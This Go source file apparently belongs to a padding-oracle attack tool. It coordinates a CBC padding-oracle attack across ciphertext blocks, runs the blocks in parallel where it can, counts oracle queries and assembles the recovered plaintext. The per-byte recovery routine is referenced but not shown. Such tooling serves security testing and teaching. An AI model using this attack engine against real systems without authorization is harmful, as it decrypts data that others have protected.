// Package recovery implements the CBC padding-oracle attack: it
// recovers the intermediate decryption state of each ciphertext block
// byte by byte, using only the oracle's padding verdicts, and folds the
// results into plaintext via P = D(C) xor C_prev.
package recovery

import (
	"context"
	"log/slog"
	"sync"
	"sync/atomic"

	"github.com/nullmass/padoracle/pkg/oracle"
	"github.com/nullmass/padoracle/pkg/workerpool"
)

// BytePos identifies a single unrecovered plaintext byte. Block is the
// ciphertext block index (1-based; block 0 is the IV), Index the byte
// offset within the block.
type BytePos struct {
	Block int
	Index int
}

// Result is the outcome of one attack run. Plaintext always has
// len(ciphertext)-BlockSize bytes; unresolved positions hold 0x00 and
// are listed in Unresolved.
type Result struct {
	Plaintext  []byte
	Unresolved []BytePos
	Queries    uint64
}

type Config struct {
	Transport oracle.Transport
	Logger    *slog.Logger
	// Pool enables racing the guess sweep for one byte position across
	// workers. Only used when the transport supports concurrent queries.
	Pool *workerpool.Pool
	// ParallelBlocks decrypts independent blocks concurrently. Only
	// used when the transport supports concurrent queries.
	ParallelBlocks bool
}

// Chain drives the attack across all blocks of a ciphertext. One Chain
// serves one attack session; it is not reused.
type Chain struct {
	transport      oracle.Transport
	log            *slog.Logger
	pool           *workerpool.Pool
	parallelBlocks bool
	queries        atomic.Uint64
}

func NewChain(conf Config) *Chain {
	if conf.Logger == nil {
		conf.Logger = slog.Default()
	}
	return &Chain{
		transport:      conf.Transport,
		log:            conf.Logger,
		pool:           conf.Pool,
		parallelBlocks: conf.ParallelBlocks,
	}
}

// Queries returns the number of oracle queries issued so far.
func (c *Chain) Queries() uint64 { return c.queries.Load() }

func (c *Chain) concurrentTransport() bool {
	ct, ok := c.transport.(oracle.ConcurrentTransport)
	return ok && ct.SupportsConcurrency()
}

// Run decrypts every block of ciphertext (IV plus n blocks). Blocks are
// independent, so a block that fails entirely does not stop the rest;
// its positions are reported in Result.Unresolved. Only malformed input
// or an exhausted transport aborts the run.
func (c *Chain) Run(ctx context.Context, ciphertext []byte) (Result, error) {
	bs := oracle.BlockSize
	if len(ciphertext)%bs != 0 || len(ciphertext) < 2*bs {
		return Result{}, oracle.ErrInvalidLength
	}

	nBlocks := len(ciphertext)/bs - 1
	results := make([]blockResult, nBlocks)

	decryptOne := func(ctx context.Context, i int) {
		prev := ciphertext[i*bs : (i+1)*bs]
		target := ciphertext[(i+1)*bs : (i+2)*bs]
		results[i] = c.decryptBlock(ctx, prev, target, i+1)
	}

	if c.parallelBlocks && c.concurrentTransport() && nBlocks > 1 {
		var wg sync.WaitGroup
		for i := 0; i < nBlocks; i++ {
			wg.Add(1)
			go func(i int) {
				defer wg.Done()
				decryptOne(ctx, i)
			}(i)
		}
		wg.Wait()
	} else {
		for i := 0; i < nBlocks; i++ {
			decryptOne(ctx, i)
		}
	}

	res := Result{Plaintext: make([]byte, nBlocks*bs)}
	var firstErr error
	for i, br := range results {
		copy(res.Plaintext[i*bs:], br.plaintext[:])
		for j := 0; j < bs; j++ {
			if !br.valid[j] {
				res.Unresolved = append(res.Unresolved, BytePos{Block: i + 1, Index: j})
			}
		}
		if br.err != nil && firstErr == nil {
			firstErr = br.err
		}
	}
	res.Queries = c.queries.Load()

	c.log.Info("attack finished",
		"blocks", nBlocks,
		"queries", res.Queries,
		"unresolved", len(res.Unresolved))

	return res, firstErr
}

// query submits (prev' || target) to the oracle. Every oracle round
// trip in the engine goes through here so the session counter stays
// accurate.
func (c *Chain) query(ctx context.Context, prev, target []byte) (bool, error) {
	candidate := make([]byte, 0, 2*oracle.BlockSize)
	candidate = append(candidate, prev...)
	candidate = append(candidate, target...)
	c.queries.Add(1)
	return c.transport.Query(ctx, candidate)
}
